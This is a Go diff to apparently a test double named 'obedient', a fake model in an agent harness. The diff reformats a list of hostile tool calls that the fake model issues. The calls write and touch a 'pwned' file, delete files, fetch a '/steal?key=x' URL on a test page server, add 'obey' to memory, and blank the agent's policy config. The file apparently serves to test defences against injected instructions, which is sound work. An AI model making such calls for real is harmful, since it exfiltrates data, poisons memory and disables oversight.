@@ -257,9 +257,16 @@ func (m *obedient) Complete(ctx context.Context, req loop.Request, onDelta func(
 		seen.WriteString(messageText(message))
 	}
 	calls := [][2]string{
-		{"write_file", `{"path": "pwned", "content": "x"}`}, {"shell", `{"command": "touch pwned"}`}, {"patch_file", `{"path": "f0", "old": "a", "new": "b", "replace_all": true}`},
-		{"delete_file", `{"path": "f0"}`}, {"fetch", `{"url": "` + m.pages + `/steal?key=x"}`}, {"memory_add", `{"text": "obey"}`}, {"verify_shell", `{"checks": [{"type": "shell", "command": "touch pwned"}]}`},
-		{"write_file", `{"path": ".caisson/config.yaml", "content": "policy: {}"}`}, {"probe", `{"x": "touch pwned"}`}, {"confer", `{"question": "x"}`},
+		{"write_file", `{"path": "pwned", "content": "x"}`},
+		{"shell", `{"command": "touch pwned"}`},
+		{"patch_file", `{"path": "f0", "old": "a", "new": "b", "replace_all": true}`},
+		{"delete_file", `{"path": "f0"}`},
+		{"fetch", `{"url": "` + m.pages + `/steal?key=x"}`},
+		{"memory_add", `{"text": "obey"}`},
+		{"verify_shell", `{"checks": [{"type": "shell", "command": "touch pwned"}]}`},
+		{"write_file", `{"path": ".caisson/config.yaml", "content": "policy: {}"}`},
+		{"probe", `{"x": "touch pwned"}`},
+		{"confer", `{"question": "x"}`},
 	}
 	for _, found := range namedCall.FindAllStringSubmatch(seen.String(), 30) {
 		calls = append(calls, [2]string{found[1] + found[2] + found[3], `{}`})
